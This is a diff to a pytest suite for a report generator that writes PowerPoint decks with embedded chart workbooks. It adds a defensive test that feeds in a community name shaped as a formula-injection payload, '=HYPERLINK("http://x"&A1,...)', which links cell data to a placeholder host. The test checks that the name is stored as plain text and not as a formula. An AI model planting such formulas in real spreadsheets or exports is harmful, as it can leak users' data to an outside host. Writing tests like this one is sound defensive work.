@@ -14,10 +14,12 @@ import io
 import re
 import shutil
 import subprocess
+import zipfile
 from datetime import date
 from html.parser import HTMLParser
 from pathlib import Path
 
+import openpyxl
 import pandas as pd
 import pytest
 from lxml import etree
@@ -176,6 +178,51 @@ def test_pptx_has_eight_16_9_slides_with_native_charts_of_the_decks_numbers(deck
     assert tuple(party.plots[0].series[0].values) == pytest.approx((100.0, 200 / 3))
 
 
+HOSTILE = '=HYPERLINK("http://x"&A1,"点我")'
+
+
+@pytest.mark.parametrize(
+    ("scope", "where"),
+    [((), "categories"), (("C01",), "series names")],  # bars by community; one's own lines
+)
+def test_pptx_chart_workbooks_hold_a_name_from_the_data_as_text_never_a_formula(
+    tmp_path, scope, where
+):
+    """A community named like a formula: every embedded workbook holds the name as a text
+    cell (no <f> anywhere), marked with Excel's quote prefix so editing keeps it text; the
+    chart labels and the slide text show it exactly as it is, without a ' before it."""
+    rows = copy.deepcopy(fixture_data.ROWS)
+    rows["communities"][0] = ("C01", HOSTILE, "Jia", *rows["communities"][0][3:])
+    con = db.connect(fixture_data.write(tmp_path / "data", rows))
+    d = build_deck(bc.db_runner(con), flt.Filters(date(2010, 4, 1), date(2011, 4, 1), scope))
+    con.close()
+    path = pptx.write(d, tmp_path)
+    with zipfile.ZipFile(path) as deck_zip:
+        names = [n for n in deck_zip.namelist() if n.startswith("ppt/embeddings/")]
+        books = [deck_zip.read(n) for n in names]
+    assert len(books) == 4 and all(n.endswith(".xlsx") for n in names)
+    for blob in books:
+        with zipfile.ZipFile(io.BytesIO(blob)) as book_zip:
+            sheets = [n for n in book_zip.namelist() if n.startswith("xl/worksheets/")]
+            assert sheets
+            for sheet in sheets:
+                xml = book_zip.read(sheet).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, sheet
+        cells = [c for row in openpyxl.load_workbook(io.BytesIO(blob)).active for c in row]
+        [named] = [c for c in cells if c.value == HOSTILE]
+        assert named.data_type == "s" and named.quotePrefix
+        assert not [c for c in cells if c is not named and c.quotePrefix]  # only where needed
+    prs = Presentation(str(path))
+    for index in range(2, 6):
+        plot = next(s for s in prs.slides[index].shapes if s.has_chart).chart.plots[0]
+        if where == "categories":
+            assert HOSTILE in plot.categories
+        else:
+            assert plot.series[0].name == HOSTILE
+    ranking = next(s.table for s in prs.slides[6].shapes if s.has_table)
+    assert HOSTILE in [c.text for row in ranking.rows for c in row.cells]
+
+
 @pytest.mark.parametrize(
     ("lang", "title", "sentence"),
     [
@@ -291,7 +338,7 @@ def test_deck_values_equal_the_pages_for_the_same_filters(fixture_dir, monkeypat
     con = db.connect(fixture_dir)
     run = bc.db_runner(con)
     quarters = [pd.Timestamp(q).date() for q in run("periods_available", {})["quarter"]]
-    deck = build_deck(run, flt.default_filters(quarters), "zh")  # what the app opens with
+    deck = build_deck(run, flt.default_filters(quarters, bc.data_as_of(run)), "zh")  # as the app
     con.close()
     at = open_page(app_on(fixture_dir, monkeypatch), "overview")
 
@@ -333,6 +380,19 @@ def test_cli_writes_both_files_and_prints_their_paths(fixture_dir, monkeypatch, 
     stem = "芦潮港镇四个平台汇报_2011Q1-2011Q2_2个社区"
     assert printed == [str(tmp_path / f"{stem}.pptx"), str(tmp_path / f"{stem}.html")]
     assert all(Path(p).stat().st_size > 0 for p in printed)
+
+
+def test_cli_defaults_to_the_period_ending_at_the_data_date(monkeypatch, tmp_path, capsys):
+    # an outcomes row in 2021Q4 runs ahead of data that ends on 2011-06-30: the default
+    # period is 2010Q2-2011Q2, not 2010Q2-2021Q4
+    folder = fixture_data.write(tmp_path / "data", fixture_data.outcomes_running_ahead())
+    monkeypatch.setenv("GOVERNANCE_DATA_DIR", str(folder))
+    assert cli.main(["--out", str(tmp_path / "out")]) == 0
+    stem = "芦潮港镇四个平台汇报_2010Q2-2011Q2_全镇"
+    assert capsys.readouterr().out.split() == [
+        str(tmp_path / "out" / f"{stem}.pptx"),
+        str(tmp_path / "out" / f"{stem}.html"),
+    ]
 
 
 @pytest.mark.parametrize(
